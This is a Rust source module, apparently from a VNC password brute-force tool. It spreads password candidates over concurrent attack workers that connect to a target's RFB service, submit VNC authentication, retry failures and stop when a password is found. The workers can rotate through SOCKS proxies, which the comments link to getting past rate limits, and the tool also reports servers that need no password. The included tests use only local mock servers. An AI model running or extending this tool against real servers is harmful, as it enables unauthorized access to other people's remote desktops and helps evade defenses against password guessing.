//! Worker orchestration: fan candidates out over a bounded channel to a
//! pool of attackers, retry transient failures, and stop the world on the
//! first success.

use std::net::SocketAddr;
use std::process;
use std::sync::{Arc, Mutex as StdMutex};
use std::time::Duration;

use colored::Colorize;
use futures::future::join_all;
use log::{error, info, warn};
use tokio::sync::{mpsc, Mutex};
use tokio::time::sleep;

use crate::dialer::ConnType;
use crate::generator::PasswordSource;
use crate::pool::ProxyPool;
use crate::progress::Progress;
use crate::rfb::{Client, VncAuth};

pub struct AttackConfig {
    pub dest_addr: SocketAddr,
    pub conn_type: ConnType,
    pub threads: usize,
    /// Retry attempts per password for failed connections; -1 means
    /// infinite retries.
    pub retries: i64,
    pub delay_secs: f64,
    pub start_index: u64,
    pub packet_debug: bool,
}

/// How a single connect → handshake → submit cycle ended. Transport and
/// protocol failures come back as `Err(message)` and are retried.
#[derive(Debug)]
enum Outcome {
    /// The server offers none-auth; no password needed at all.
    NoAuthNeeded,
    Found,
    /// Normal outcome, not retried; carries the server's reason if it sent
    /// a non-empty one.
    WrongPassword(Option<String>),
}

pub async fn run(
    cfg: AttackConfig,
    source: Box<dyn PasswordSource>,
    proxy_pool: Option<Arc<ProxyPool>>,
) -> Result<(), String> {
    let pw_count = source.count();
    if cfg.start_index > pw_count {
        return Err(format!(
            "start index ({}) is larger than the total number of passwords to iterate through ({pw_count})",
            cfg.start_index
        ));
    }

    let progress = Arc::new(Progress::new(pw_count));
    spawn_signal_handler(progress.clone());

    let (pw_tx, pw_rx) = mpsc::channel::<String>(cfg.threads.max(1));
    let pw_rx = Arc::new(Mutex::new(pw_rx));

    // For SecurityResult failed messages there is no actual standard across
    // servers, just OK (0) and failed (1). "Failed" doesn't always mean the
    // creds are wrong: the IP might be ratelimited. Track what the message
    // is so the user can tell, without drowning the log in repeats.
    let (failed_tx, failed_rx) = mpsc::channel::<String>(1);
    tokio::spawn(failed_reason_reporter(failed_rx));

    let success_lock = Arc::new(StdMutex::new(()));
    let cfg = Arc::new(cfg);

    let mut workers = Vec::with_capacity(cfg.threads);
    for _ in 0..cfg.threads {
        workers.push(tokio::spawn(worker_loop(
            cfg.clone(),
            pw_rx.clone(),
            proxy_pool.clone(),
            failed_tx.clone(),
            progress.clone(),
            success_lock.clone(),
        )));
    }
    drop(failed_tx);

    // Start the progress display at the index iteration starts from
    if cfg.start_index != 0 {
        progress.add(cfg.start_index);
    }

    for pw in source.passwords().skip(cfg.start_index as usize) {
        if pw_tx.send(pw).await.is_err() {
            break;
        }
    }
    drop(pw_tx);

    join_all(workers).await;
    progress.stop();

    Ok(())
}

async fn worker_loop(
    cfg: Arc<AttackConfig>,
    pw_rx: Arc<Mutex<mpsc::Receiver<String>>>,
    proxy_pool: Option<Arc<ProxyPool>>,
    failed_tx: mpsc::Sender<String>,
    progress: Arc<Progress>,
    success_lock: Arc<StdMutex<()>>,
) {
    loop {
        // Hold the shared receiver only long enough to pull one candidate
        let pw = { pw_rx.lock().await.recv().await };
        let Some(pw) = pw else {
            break;
        };

        let mut attempt_no: i64 = 0;
        // Keeping track of repeat errors
        let mut last_err: Option<String> = None;
        let mut next_err: Option<String> = None;

        loop {
            if cfg.retries != -1 && attempt_no > cfg.retries {
                break;
            }

            if let Some(err) = next_err.take() {
                if last_err.as_deref() != Some(err.as_str()) {
                    error!("{err}");
                } else {
                    // Same failure repeating; stay quiet and back off
                    sleep(Duration::from_secs(1)).await;
                }
                last_err = Some(err);
            }

            match attempt(&cfg, proxy_pool.as_deref(), &pw).await {
                Ok(Outcome::NoAuthNeeded) => succeed(
                    &success_lock,
                    &progress,
                    "🎉 Server has none-auth enabled, you should be able to connect w/out a password",
                ),
                Ok(Outcome::Found) => succeed(
                    &success_lock,
                    &progress,
                    &format!("🎉 FOUND PASSWORD!! \"{pw}\""),
                ),
                Ok(Outcome::WrongPassword(reason)) => {
                    if let Some(reason) = reason {
                        let _ = failed_tx.send(reason).await;
                    }

                    // The password was simply wrong; move on
                    break;
                }
                Err(e) => next_err = Some(e),
            }

            attempt_no += 1;
            if cfg.delay_secs > 0.0 {
                sleep(Duration::from_secs_f64(cfg.delay_secs)).await;
            }
        }

        progress.increment();
    }
}

/// One full attempt with a fresh session. The session (and its stream) is
/// dropped on every path out of here.
async fn attempt(
    cfg: &AttackConfig,
    proxy_pool: Option<&ProxyPool>,
    pw: &str,
) -> Result<Outcome, String> {
    let mut client = Client::new(cfg.dest_addr, cfg.conn_type, cfg.packet_debug);

    if let Some(pool) = proxy_pool {
        let proxy = pool
            .get()
            .map_err(|e| format!("failed to get proxy from pool: {e}"))?;
        client.proxy = Some(proxy);
    }

    client
        .connect()
        .await
        .map_err(|e| format!("failed to connect to server: {e}"))?;
    client
        .handshake()
        .await
        .map_err(|e| format!("failed to perform connection handshake: {e}"))?;

    if client.security_types.contains(&VncAuth::None) {
        return Ok(Outcome::NoAuthNeeded);
    }

    if client.security_types.contains(&VncAuth::Basic) {
        client
            .submit_auth_basic(pw)
            .await
            .map_err(|e| format!("unexpected error during auth: {e}"))?;

        if client.security_result.success {
            return Ok(Outcome::Found);
        }

        let reason = client.security_result.reason.clone();
        return Ok(Outcome::WrongPassword((!reason.is_empty()).then_some(reason)));
    }

    Err("no valid auth types were given by server".to_string())
}

/// First success wins: stop the display, print the banner, and take the
/// whole process down before any other worker gets a chance.
fn succeed(lock: &StdMutex<()>, progress: &Progress, msg: &str) -> ! {
    let _guard = lock.lock().unwrap();
    progress.stop();
    println!("{}", msg.green().bold());
    process::exit(0);
}

/// Dedicated consumer for the failed-reason channel: report the first
/// reason at info, changes at warning, and drop repeats.
async fn failed_reason_reporter(mut rx: mpsc::Receiver<String>) {
    let mut last_msg = String::new();

    while let Some(msg) = rx.recv().await {
        if last_msg.is_empty() {
            info!("Current 'failed' message from server: \"{msg}\"");
        } else if msg != last_msg {
            warn!("New 'failed' message from server: \"{msg}\"");
        } else {
            continue;
        }

        last_msg = msg;
    }
}

fn spawn_signal_handler(progress: Arc<Progress>) {
    tokio::spawn(async move {
        wait_for_shutdown_signal().await;
        progress.stop();
        process::exit(0);
    });
}

#[cfg(unix)]
async fn wait_for_shutdown_signal() {
    use tokio::signal::unix::{signal, SignalKind};

    let mut term = match signal(SignalKind::terminate()) {
        Ok(term) => term,
        Err(e) => {
            error!("failed to install SIGTERM handler: {e}");
            let _ = tokio::signal::ctrl_c().await;
            return;
        }
    };

    tokio::select! {
        _ = tokio::signal::ctrl_c() => {}
        _ = term.recv() => {}
    }
}

#[cfg(not(unix))]
async fn wait_for_shutdown_signal() {
    let _ = tokio::signal::ctrl_c().await;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::raw::RawIter;
    use crate::rfb::client::encrypt_challenge;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    use tokio::net::TcpListener;

    fn test_cfg(dest_addr: SocketAddr) -> AttackConfig {
        AttackConfig {
            dest_addr,
            conn_type: ConnType::Tcp,
            threads: 1,
            retries: 0,
            delay_secs: 0.0,
            start_index: 0,
            packet_debug: false,
        }
    }

    /// Scripted v3.8 server: offers Basic only and accepts exactly
    /// `password`, failing everything else with `reason`.
    async fn serve_basic_auth(listener: TcpListener, password: &str, reason: &str) {
        let (mut sock, _) = listener.accept().await.unwrap();
        sock.write_all(b"RFB 003.008\n").await.unwrap();

        let mut ver = [0u8; 12];
        sock.read_exact(&mut ver).await.unwrap();

        sock.write_all(&[0x01, 0x02]).await.unwrap();

        let mut selector = [0u8; 1];
        sock.read_exact(&mut selector).await.unwrap();

        let challenge: [u8; 16] = core::array::from_fn(|i| 0x10 + i as u8);
        sock.write_all(&challenge).await.unwrap();

        let mut response = [0u8; 16];
        sock.read_exact(&mut response).await.unwrap();

        if response == encrypt_challenge(&challenge, password) {
            sock.write_all(&0u32.to_be_bytes()).await.unwrap();
        } else {
            let mut msg = 1u32.to_be_bytes().to_vec();
            msg.extend_from_slice(&(reason.len() as u32).to_be_bytes());
            msg.extend_from_slice(reason.as_bytes());
            sock.write_all(&msg).await.unwrap();
        }
    }

    #[tokio::test]
    async fn test_attempt_finds_correct_password() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(serve_basic_auth(listener, "letmein", "nope"));

        let outcome = attempt(&test_cfg(addr), None, "letmein").await.unwrap();
        assert!(matches!(outcome, Outcome::Found));
    }

    #[tokio::test]
    async fn test_attempt_wrong_password_carries_reason() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(serve_basic_auth(listener, "letmein", "Authentication failed"));

        let outcome = attempt(&test_cfg(addr), None, "guess").await.unwrap();
        match outcome {
            Outcome::WrongPassword(reason) => {
                assert_eq!(reason.as_deref(), Some("Authentication failed"))
            }
            _ => panic!("expected WrongPassword"),
        }
    }

    #[tokio::test]
    async fn test_attempt_detects_open_server() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();

        tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            sock.write_all(b"RFB 003.008\n").await.unwrap();

            let mut ver = [0u8; 12];
            sock.read_exact(&mut ver).await.unwrap();

            sock.write_all(&[0x02, 0x01, 0x02]).await.unwrap();
        });

        let outcome = attempt(&test_cfg(addr), None, "irrelevant").await.unwrap();
        assert!(matches!(outcome, Outcome::NoAuthNeeded));
    }

    #[tokio::test]
    async fn test_attempt_rejects_unusable_auth_types() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();

        tokio::spawn(async move {
            let (mut sock, _) = listener.accept().await.unwrap();
            sock.write_all(b"RFB 003.008\n").await.unwrap();

            let mut ver = [0u8; 12];
            sock.read_exact(&mut ver).await.unwrap();

            // Tight (16) and VeNCrypt (19): discovery only, never submitted
            sock.write_all(&[0x02, 0x10, 0x13]).await.unwrap();
        });

        let err = attempt(&test_cfg(addr), None, "pw").await.unwrap_err();
        assert_eq!(err, "no valid auth types were given by server");
    }

    #[tokio::test]
    async fn test_attempt_connect_failure_is_retryable_error() {
        // Nothing is listening here
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);

        let err = attempt(&test_cfg(addr), None, "pw").await.unwrap_err();
        assert!(err.starts_with("failed to connect to server"));
    }

    #[tokio::test]
    async fn test_run_rejects_start_index_out_of_range() {
        let cfg = AttackConfig {
            start_index: 100,
            ..test_cfg("127.0.0.1:5900".parse().unwrap())
        };

        // Two candidates, start index 100
        let source = Box::new(RawIter::new("ab", 1, 1));
        let err = run(cfg, source, None).await.unwrap_err();
        assert!(err.contains("start index (100)"));
    }

    #[tokio::test]
    async fn test_run_exhausts_candidate_space() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();

        // Accept one connection per candidate, reject every password
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = match listener.accept().await {
                    Ok(conn) => conn,
                    Err(_) => break,
                };

                tokio::spawn(async move {
                    sock.write_all(b"RFB 003.008\n").await.unwrap();

                    let mut ver = [0u8; 12];
                    sock.read_exact(&mut ver).await.unwrap();

                    sock.write_all(&[0x01, 0x02]).await.unwrap();

                    let mut selector = [0u8; 1];
                    sock.read_exact(&mut selector).await.unwrap();

                    sock.write_all(&[0x77u8; 16]).await.unwrap();

                    let mut response = [0u8; 16];
                    sock.read_exact(&mut response).await.unwrap();

                    let reason = b"Authentication failure";
                    let mut msg = 1u32.to_be_bytes().to_vec();
                    msg.extend_from_slice(&(reason.len() as u32).to_be_bytes());
                    msg.extend_from_slice(reason);
                    sock.write_all(&msg).await.unwrap();
                });
            }
        });

        let cfg = AttackConfig {
            threads: 2,
            ..test_cfg(addr)
        };

        // Exhausts all 6 candidates without finding anything and returns
        let source = Box::new(RawIter::new("ab", 1, 2));
        run(cfg, source, None).await.unwrap();
    }

    #[tokio::test]
    async fn test_honeypot_candidate_retried_up_to_limit_then_skipped() {
        use std::sync::atomic::{AtomicUsize, Ordering};

        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();

        let connections = Arc::new(AtomicUsize::new(0));
        let served = connections.clone();

        // Every connection gets an all-zero challenge
        tokio::spawn(async move {
            loop {
                let (mut sock, _) = match listener.accept().await {
                    Ok(conn) => conn,
                    Err(_) => break,
                };
                served.fetch_add(1, Ordering::SeqCst);

                tokio::spawn(async move {
                    sock.write_all(b"RFB 003.008\n").await.unwrap();

                    let mut ver = [0u8; 12];
                    sock.read_exact(&mut ver).await.unwrap();

                    sock.write_all(&[0x01, 0x02]).await.unwrap();

                    let mut selector = [0u8; 1];
                    sock.read_exact(&mut selector).await.unwrap();

                    let _ = sock.write_all(&[0u8; 16]).await;
                });
            }
        });

        let cfg = AttackConfig {
            retries: 1,
            ..test_cfg(addr)
        };

        // One candidate, two attempts (initial + one retry), then skipped
        let source = Box::new(RawIter::new("a", 1, 1));
        run(cfg, source, None).await.unwrap();

        assert_eq!(connections.load(Ordering::SeqCst), 2);
    }

    #[tokio::test]
    async fn test_attempt_pulls_proxy_from_pool() {
        // The pool's single entry points at a dead SOCKS proxy; the attempt
        // must fail on the proxy dial, not on the target
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let proxy_addr = listener.local_addr().unwrap();
        drop(listener);

        let pool = ProxyPool::from_reader(
            format!("socks5://{proxy_addr}\n").as_bytes(),
        )
        .unwrap();

        let target = "127.0.0.1:5900".parse().unwrap();
        let err = attempt(&test_cfg(target), Some(&pool), "pw").await.unwrap_err();
        assert!(err.starts_with("failed to connect to server"));
    }
}
